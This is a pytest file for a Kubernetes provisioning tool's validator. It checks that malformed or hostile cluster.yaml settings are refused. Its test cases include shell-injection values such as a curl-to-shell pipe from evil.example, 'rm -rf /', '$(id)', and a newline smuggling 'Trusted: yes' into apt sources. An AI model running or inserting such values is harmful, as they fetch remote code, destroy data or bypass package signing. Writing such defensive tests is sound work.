"""cluster.yaml values a hostile new user writes: refused in one line naming the file and the field, with the fix,
exit code 2, before any node is touched. Nothing a setting says reaches a node's configuration raw: a newline in
a mirror URL would add lines of its own to an apt sources file (`Trusted: yes` defeats its signing key).
"""
from __future__ import annotations

from pathlib import Path

import pytest

from provision.inputs.settings import NEWEST_KUBE_MINOR, OLDEST_KUBE_MINOR, kube_minor_problem
from tests.support.refusal import assert_refused, run_main

INVENTORY = "[control_plane]\ncp1 ansible_host=10.0.0.1\n[workers]\nw1 ansible_host=10.0.0.2\n"

# (id, cluster.yaml, the field the line names, other words it names)
CASES = [
    # Kubernetes versions
    ("version-past-range", f"kubernetes:\n  version: '1.{NEWEST_KUBE_MINOR + 1}'\n", "kubernetes.version",
     ["newer than any release", "kubernetes.allow_untested_versions: true"]),
    ("version-far-future", "kubernetes:\n  version: '1.99.0'\n", "kubernetes.version", ["newer than any release"]),
    ("version-too-old", f"kubernetes:\n  version: '1.{OLDEST_KUBE_MINOR - 1}'\n", "kubernetes.version",
     ["past its end of life", "choose 1.35, 1.36 or 1.37"]),
    ("version-latest", "kubernetes:\n  version: latest\n", "kubernetes.version", ["write it as 1.36 or 1.36.4"]),
    ("version-empty", "kubernetes:\n  version: ''\n", "kubernetes.version", ["not a Kubernetes version"]),
    ("version-major-2", "kubernetes:\n  version: '2.0'\n", "kubernetes.version", ["not a Kubernetes version"]),
    ("version-leading-zero", "kubernetes:\n  version: '1.031'\n", "kubernetes.version", ["not a Kubernetes version"]),
    ("version-rc", "kubernetes:\n  version: '1.31.0-rc.1'\n", "kubernetes.version", ["not a Kubernetes version"]),
    ("version-null-like", "kubernetes:\n  version: [1, 31]\n", "kubernetes.version", ["not a version"]),
    ("version-shell", "kubernetes:\n  version: '1.31; reboot'\n", "kubernetes.version", ["not a Kubernetes version"]),
    # Service and pod ranges
    ("service-bare-address", "kubernetes:\n  service_cidr: 10.96.0.1\n", "kubernetes.service_cidr", ["no prefix length"]),
    ("service-wider-than-12", "kubernetes:\n  service_cidr: 10.0.0.0/8\n", "kubernetes.service_cidr",
     ["wider than /12", "kubeadm refuses"]),
    ("service-too-narrow", "kubernetes:\n  service_cidr: 10.96.0.0/30\n", "kubernetes.service_cidr", ["narrower than /28"]),
    ("service-loopback", "kubernetes:\n  service_cidr: 127.16.0.0/12\n", "kubernetes.service_cidr", ["loopback"]),
    ("pod-bare-address", "kubernetes:\n  pod_cidr: 10.244.0.0\n", "kubernetes.pod_cidr", ["no prefix length"]),
    ("pod-multicast", "kubernetes:\n  pod_cidr: 224.0.0.0/16\n", "kubernetes.pod_cidr", ["multicast"]),
    ("pod-reserved", "kubernetes:\n  pod_cidr: 240.0.0.0/16\n", "kubernetes.pod_cidr", ["reserved"]),
    ("pod-link-local", "kubernetes:\n  pod_cidr: 169.254.0.0/16\n", "kubernetes.pod_cidr", ["link-local"]),
    ("pod-this-network", "kubernetes:\n  pod_cidr: 0.0.0.0/16\n", "kubernetes.pod_cidr", ["'this network'"]),
    ("pod-everything", "kubernetes:\n  pod_cidr: 0.0.0.0/0\n", "kubernetes.pod_cidr", ["overlaps"]),
    ("pod-wider-than-8", "kubernetes:\n  pod_cidr: 10.0.0.0/7\n", "kubernetes.pod_cidr", ["wider than /8"]),
    ("pod-newline", "kubernetes:\n  pod_cidr: \"10.244.0.0/16\\n\"\n", "kubernetes.pod_cidr", ["not a valid CIDR"]),
    # DNS domain
    ("dns-upper-case", "kubernetes:\n  dns_domain: Cluster.Local\n", "kubernetes.dns_domain", ["not a DNS domain"]),
    ("dns-underscore", "kubernetes:\n  dns_domain: my_cluster.local\n", "kubernetes.dns_domain", ["not a DNS domain"]),
    ("dns-trailing-dot", "kubernetes:\n  dns_domain: cluster.local.\n", "kubernetes.dns_domain", ["not a DNS domain"]),
    ("dns-space", "kubernetes:\n  dns_domain: cluster local\n", "kubernetes.dns_domain", ["not a DNS domain"]),
    ("dns-empty", "kubernetes:\n  dns_domain: ''\n", "kubernetes.dns_domain", ["not a DNS domain"]),
    ("dns-url", "kubernetes:\n  dns_domain: https://cluster.local\n", "kubernetes.dns_domain", ["not a DNS domain"]),
    # Image repositories and images
    ("image-repository-scheme", "mirrors:\n  image_repository: https://registry.example.com/k8s\n",
     "mirrors.image_repository", ["URL scheme", "registry and path only"]),
    ("image-repository-upper-path", "mirrors:\n  image_repository: registry.example.com/K8s\n",
     "mirrors.image_repository", ["not a registry"]),
    ("image-repository-space", "mirrors:\n  image_repository: 'registry.example.com/k8s images'\n",
     "mirrors.image_repository", ["not a registry"]),
    ("offline-image-repository-scheme", "offline:\n  image_repository: http://10.0.0.5:5000\n",
     "offline.image_repository", ["URL scheme"]),
    ("smoke-image-latest", "smoke_test:\n  image: docker.io/pytorch/pytorch:latest\n", "smoke_test.image",
     ["no fixed tag", "not latest"]),
    ("smoke-image-untagged", "smoke_test:\n  image: docker.io/pytorch/pytorch\n", "smoke_test.image", ["no fixed tag"]),
    ("smoke-image-empty", "smoke_test:\n  image: ''\n", "smoke_test.image", ["not an image reference"]),
    ("smoke-image-scheme", "smoke_test:\n  image: https://docker.io/pytorch/pytorch:2.5.1\n", "smoke_test.image",
     ["URL scheme"]),
    ("dns-probe-image-latest", "verify:\n  dns_probe_image: busybox:latest\n", "verify.dns_probe_image",
     ["no fixed tag"]),
    ("dns-probe-image-shell", "verify:\n  dns_probe_image: 'busybox:1.36; rm -rf /'\n", "verify.dns_probe_image",
     ["not an image reference"]),
    ("device-plugin-image-tagged", "gpu:\n  device_plugin_image: nvcr.io/nvidia/k8s-device-plugin:v0.17.0\n",
     "gpu.device_plugin_image", ["carries a tag"]),
    # Versions that become package names or tags on the nodes
    ("driver-branch-shell", "gpu:\n  driver_branch: '565; curl evil.example | sh'\n", "gpu.driver_branch",
     ["not an NVIDIA driver branch"]),
    ("driver-branch-latest", "gpu:\n  driver_branch: latest\n", "gpu.driver_branch", ["not an NVIDIA driver branch"]),
    ("driver-branch-empty", "gpu:\n  driver_branch: ''\n", "gpu.driver_branch", ["not an NVIDIA driver branch"]),
    ("driver-branch-number", "gpu:\n  driver_branch: 565\n", "gpu.driver_branch",
     ["a number to YAML", "quote it", "driver_branch: '565'"]),
    ("toolkit-latest", "gpu:\n  container_toolkit_version: latest\n", "gpu.container_toolkit_version",
     ["not a container toolkit release"]),
    ("device-plugin-version-empty", "gpu:\n  device_plugin_version: ''\n", "gpu.device_plugin_version",
     ["not a device plugin release tag"]),
    ("calico-latest", "calico:\n  version: latest\n", "calico.version", ["not a Calico release tag"]),
    # Repository and mirror URLs
    ("mirror-newline-trusted", "mirrors:\n  docker_repo: \"https://mirror.example.com/docker\\nTrusted: yes\"\n",
     "mirrors.docker_repo", ["'\\n'", "a character a URL may not have"]),
    ("mirror-not-a-url", "mirrors:\n  kubernetes_repo: mirror.example.com/k8s\n", "mirrors.kubernetes_repo",
     ["not a http:// or https:// URL"]),
    ("mirror-ftp", "mirrors:\n  os_repo: ftp://mirror.example.com/debian\n", "mirrors.os_repo", ["https://"]),
    ("mirror-no-host", "mirrors:\n  pip_index: https:///simple\n", "mirrors.pip_index", ["with a host"]),
    ("mirror-space", "mirrors:\n  nvidia_cuda_repo: https://mirror.example.com/cuda repos\n", "mirrors.nvidia_cuda_repo",
     ["' '"]),
    ("mirror-quote", "mirrors:\n  calico_manifest: \"https://mirror.example.com/x'\"\n", "mirrors.calico_manifest",
     ["a character a URL may not have"]),
    ("mirror-jinja", "mirrors:\n  nvidia_toolkit_repo: 'https://{{ mirror }}/toolkit'\n", "mirrors.nvidia_toolkit_repo",
     ["'{'"]),
    ("mirror-shell", "mirrors:\n  docker_repo: 'https://mirror.example.com/$(id)'\n", "mirrors.docker_repo", ["'$'"]),
    ("registry-mirror-newline", "container_runtime:\n  registry_mirrors:\n    docker.io: [\"https://m.example.com\\n[plugins]\"]\n",
     "container_runtime.registry_mirrors", ["a character a URL may not have"]),
    ("registry-mirror-bad-host", "container_runtime:\n  registry_mirrors:\n    'docker io': [https://m.example.com]\n",
     "container_runtime.registry_mirrors", ["not a registry host"]),
    ("registry-mirror-empty-list", "container_runtime:\n  registry_mirrors:\n    docker.io: []\n",
     "container_runtime.registry_mirrors", ["has no mirror"]),
    ("offline-relative-dots", "offline:\n  source: /srv/../etc\n", "offline.source", ["not an absolute path"]),
    ("offline-newline", "offline:\n  source: \"http://10.0.0.5/repo\\nx\"\n", "offline.source",
     ["a character a URL may not have"]),
    # Types YAML gets wrong
    ("timeout-boolean", "ssh:\n  connect_timeout_s: true\n", "ssh.connect_timeout_s", ["valid integer"]),
    ("timeout-fraction", "ssh:\n  connect_timeout_s: 10.5\n", "ssh.connect_timeout_s", ["valid integer"]),
    ("gpus-string", "smoke_test:\n  gpus: '2'\n", "smoke_test.gpus", ["valid integer"]),
    ("enabled-number", "smoke_test:\n  enabled: 1\n", "smoke_test.enabled", ["valid boolean"]),
    ("section-a-string", "kubernetes: 1.31\n", "kubernetes", ["must be a mapping of settings"]),
    ("section-a-list", "ssh: [known_hosts_file]\n", "ssh", ["must be a mapping of settings"]),
    # known_hosts
    ("known-hosts-directory", "ssh:\n  known_hosts_file: /tmp\n", "ssh.known_hosts_file", ["is a directory"]),
    ("known-hosts-under-a-file", "ssh:\n  known_hosts_file: /etc/passwd/known_hosts\n", "ssh.known_hosts_file",
     ["is a file"]),
    ("known-hosts-empty", "ssh:\n  known_hosts_file: ''\n", "ssh.known_hosts_file", ["not a file name"]),
    ("known-hosts-name-too-long", f"ssh:\n  known_hosts_file: /tmp/{'k' * 300}\n", "ssh.known_hosts_file",
     ["cannot name a file here (File name too long)"]),
    ("known-hosts-unknown-home", "ssh:\n  known_hosts_file: ~nosuchuser-cb/known_hosts\n", "ssh.known_hosts_file",
     ["home directory that does not exist"]),
]


def test_there_are_many_distinct_bad_settings() -> None:
    assert len({c[0] for c in CASES}) == len(CASES) >= 60


@pytest.mark.parametrize(("case", "settings", "field", "expected"), CASES, ids=[c[0] for c in CASES])
def test_a_bad_setting_is_refused_naming_the_file_and_field(tmp_path: Path, case: str, settings: str, field: str,
                                                            expected: list[str]) -> None:
    inventory = tmp_path / "hosts.ini"
    inventory.write_text(INVENTORY)
    config = tmp_path / "cluster.yaml"
    config.write_text(settings)
    assert_refused(run_main("up", "-i", str(inventory), "-c", str(config)), f"{config}: {field}", *expected)


def test_the_supported_kubernetes_minors_are_one_range_in_one_place() -> None:
    assert kube_minor_problem(OLDEST_KUBE_MINOR) is None and kube_minor_problem(NEWEST_KUBE_MINOR) is None
    assert "past its end of life" in (kube_minor_problem(OLDEST_KUBE_MINOR - 1) or "")
    assert "newer than any release" in (kube_minor_problem(NEWEST_KUBE_MINOR + 1) or "")
    assert kube_minor_problem(NEWEST_KUBE_MINOR + 1, allow_untested=True) is None


def test_good_mirrors_images_and_ranges_are_accepted(tmp_path: Path) -> None:
    config = tmp_path / "cluster.yaml"
    config.write_text(
        "kubernetes:\n  version: v1.36.4\n  pod_cidr: 172.20.0.0/14\n  service_cidr: 172.16.0.0/16\n"
        "  dns_domain: k8s.example.internal\n"
        "mirrors:\n  docker_repo: https://mirror.example.com:8443/docker-ce/linux/\n"
        "  image_repository: registry.example.com:5000/google_containers/\n"
        "container_runtime:\n  registry_mirrors:\n    docker.io: [https://hub.example.com]\n"
        "    registry.example.com:5000: ['http://10.0.0.5:5000']\n"
        "offline:\n  source: /srv/offline\n"
        "smoke_test:\n  image: registry.example.com:5000/pytorch/pytorch@sha256:" + "a" * 64 + "\n"
        "ssh:\n  known_hosts_file: ~/.ssh/known_hosts\n")
    outcome = run_main("config", "show", "-c", str(config), "-o", "json")
    assert outcome.code == 0, outcome.stderr
    assert '"version": "1.36.4"' in outcome.stdout
